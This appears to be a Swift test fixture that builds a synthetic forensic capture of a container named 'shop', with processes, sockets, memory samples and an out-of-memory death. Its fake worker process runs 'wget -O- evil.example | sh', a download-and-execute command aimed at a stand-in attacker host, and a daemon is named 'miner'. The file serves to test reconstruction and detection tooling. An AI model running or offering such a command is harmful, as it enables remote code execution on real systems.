import CaptureFormat
import Events
import Posix
import Reconstruction

/// A container's end: a listener, a daemon whose parent is gone, output, samples of resources, and want of memory.
struct Story {
  var boot = "boot-1"
  var host = "node-1"
  var recorder = "recorder-1"
  /// Wall time of the boot, in seconds.
  var epoch: Int64 = 1_700_000_000
  var id = String(repeating: "ab", count: 32)
  var name = "shop"
  /// The path that is written to.
  var path = "/srv/orders"

  static let container = ContainerKey(rawValue: 1)
  static func time(_ seconds: Double) -> BootTime { BuiltCapture.time(seconds) }
  static let main = ProcessKey(pid: 100, start: time(-50))
  static let shell = ProcessKey(pid: 110, start: time(-20))
  static let daemon = ProcessKey(pid: 120, start: time(-19))
  static let worker = ProcessKey(pid: 130, start: time(2))

  private func rows() -> [ProcessRow] {
    func row(_ key: ProcessKey, _ parent: ProcessKey?, _ words: [String], end: Double?, status: Int32?) -> ProcessRow {
      ProcessRow(
        key: key, parent: parent, container: Self.container, flags: key.start < Self.time(0) ? .foundByScan : [],
        end: end.map { Self.time($0) }, exitCode: status, userID: 0, groupID: 0, comm: Array(words[0].utf8),
        executable: Array("/bin/\(words[0])".utf8), arguments: ByteList(words.map { Array($0.utf8) }),
        namespacePID: key == Self.main ? 1 : key.pid)
    }
    var main = row(Self.main, nil, ["shopd", "--port", "80"], end: 9, status: 9)
    var death = ProcessDeath()
    death.memoryUsage = 64 << 20
    death.memoryLimit = 64 << 20
    main.death = death
    var worker = row(Self.worker, Self.main, ["sh", "-c", "wget -O- evil.example | sh"], end: 8.8, status: 9)
    death = ProcessDeath()
    death.sender = ProcessDeath.Sender(key: Self.main, name: Array("shopd".utf8), container: Self.container)
    worker.death = death
    return [
      main, row(Self.shell, Self.main, ["sh"], end: -18, status: 0),
      row(Self.daemon, Self.shell, ["miner", "--quiet"], end: nil, status: nil), worker,
    ]
  }

  private func state() -> StateImage {
    let rows = rows()
    func file(_ number: UInt64, _ type: FileType, _ change: (inout BlockFile) -> Void) -> BlockFile {
      var file = BlockFile(id: FileID(rawValue: number), inode: number, device: 1, type: type, mode: 0o644)
      change(&file)
      return file
    }
    func descriptor(_ process: ProcessKey, _ number: Int32, _ file: BlockFile, _ flags: DescriptorFlags = [])
      -> DescriptorRow
    {
      DescriptorRow(
        container: Self.container, process: process, descriptor: number, flags: flags, since: Self.time(-10), file: file
      )
    }
    let local = SocketAddress.ipv4(address: [10, 0, 0, 2], port: 80)
    return StateImage(
      streams: Lane.allCases.map {
        StateRow(
          container: Self.container, lane: $0, achievedStart: Self.time(0), firstSequence: 0, stateTime: Self.time(0))
      }, processes: [rows[0], rows[2]],
      descriptors: [
        descriptor(Self.main, 3, file(3, .socket) { $0.localAddress = local }, .listening),
        descriptor(
          Self.main, 4,
          file(4, .socket) {
            $0.localAddress = local
            $0.remoteAddress = .ipv4(address: [10, 0, 0, 9], port: 4321)
          }),
        descriptor(
          Self.main, 12,
          file(5, .regular) {
            $0.path = Array(path.utf8)
            $0.openFlags = 1
          }), descriptor(Self.daemon, 1, file(6, .pipe) { $0.path = Array("pipe:[77]".utf8) }, .doubtful),
      ])
  }

  private func events(_ lane: Lane, _ fill: (EventBlockBuilder) -> Void) -> SealedBlock {
    let builder = EventBlockBuilder(stream: StreamKey(container: Self.container, lane: lane), firstSequence: 0)
    fill(builder)
    return builder.seal()
  }

  private func begin(
    _ builder: EventBlockBuilder, _ seconds: Double, _ key: ProcessKey, _ kind: EventKind, call: UInt16?,
    result: Int64 = 0
  ) {
    let comm = key == Self.main ? "shopd" : key == Self.daemon ? "miner" : "sh"
    let process = builder.internProcess(key) { BlockProcess(key: key, comm: Array(comm.utf8)) }
    builder.beginRow(
      time: Self.time(seconds), process: process, thread: key.pid, kind: kind,
      call: call.map { SystemCall(abi: 0, number: $0) }, result: result, flags: [], cpu: 0)
  }

  private func samples(_ builder: EventBlockBuilder) {
    let none = builder.internProcess(BlockProcess.none.key) { .none }
    for second in 0..<9 {
      builder.beginRow(
        time: Self.time(Double(second) + 0.5), process: none, thread: 0, kind: .containerResources, call: nil,
        result: 0, flags: [], cpu: 0)
      builder.set(.memoryCurrent, Int64(8 + 7 * second) << 20)
      builder.set(.memoryMax, 64 << 20)
      builder.set(.cpuUsage, Int64(second * second) * 10_000_000)
      builder.endRow()
    }
  }

  static let output = "order 1: 3 items\norder 2: 1 item\n"

  func bytes() throws -> [UInt8] {
    var bytes: [UInt8] = []
    let writer = try CaptureWriter(
      to: { (buffer) throws(SystemError) in bytes += buffer },
      provenance: Provenance(properties: [
        .init(key: "host.name", value: host), .init(key: "host.boot.id", value: boot),
        .init(key: "recorder.instance", value: recorder),
      ]),
      catalogue: Catalogue.current(calls: [
        .init(abi: 0, number: 1, name: "write"), .init(abi: 0, number: 257, name: "openat"),
        .init(abi: 0, number: 7, name: "poll"), .init(abi: 0, number: 308, name: "setns"),
      ]))
    try writer.append(containers: [
      ContainerRow(
        key: Self.container, id: id, name: name, image: "shop/\(name):3", started: Self.time(-50), ended: Self.time(9),
        flags: .foundByScan)
    ])
    try writer.append(state())
    try writer.append(processes: rows())
    try writer.append(
      events(.lifecycle) { builder in
        begin(builder, 3, Self.worker, .namespaceEnter, call: 308)
        builder.set(.cloneFlags, 0x4000_0000)
        builder.endRow()
        begin(builder, 9, Self.main, .memoryExhausted, call: nil)
        builder.set(.memoryUsage, 64 << 20)
        builder.set(.memoryLimit, 64 << 20)
        builder.endRow()
        begin(builder, 9.001, Self.main, .processExit, call: nil)
        builder.set(.exitCode, 9)
        builder.set(.memoryUsage, 64 << 20)
        builder.set(.memoryLimit, 64 << 20)
        builder.endRow()
      })
    try writer.append(
      events(.activity) { builder in
        samples(builder)
        begin(builder, 8.7, Self.worker, .fileOpen, call: 257, result: -13)
        builder.set(.path, string: path)
        builder.set(.openFlags, 0o101)
        builder.endRow()
      })
    try writer.append(
      events(.detail) { builder in
        begin(builder, 2.5, Self.main, .fileWrite, call: 1, result: Int64(Self.output.utf8.count))
        builder.set(.descriptor, 1)
        builder.set(.count, Int64(Self.output.utf8.count))
        Array(Self.output.utf8).withUnsafeBytes { builder.set(payload: $0) }
        builder.set(.payloadLength, Int64(Self.output.utf8.count))
        builder.endRow()
        begin(builder, 4.5, Self.daemon, .call, call: 7, result: 1)
        builder.set(.duration, 1_500_000_000)
        builder.endRow()
      })
    try writer.append(anchors: [
      AnchorRow(
        boot: Self.time(0), monotonic: 0, real: WallTime(nanoseconds: epoch * 1_000_000_000), reason: .start)
    ])
    try writer.append(triggers: [
      TriggerRow(
        time: Self.time(9.001), accepted: Self.time(9.1), source: "death", reason: "shop ended: out of memory",
        container: Self.container)
    ])
    try writer.finish(
      Completeness(from: Self.time(0), to: Self.time(10), isComplete: true, reason: "the window was over"))
    return bytes
  }
}
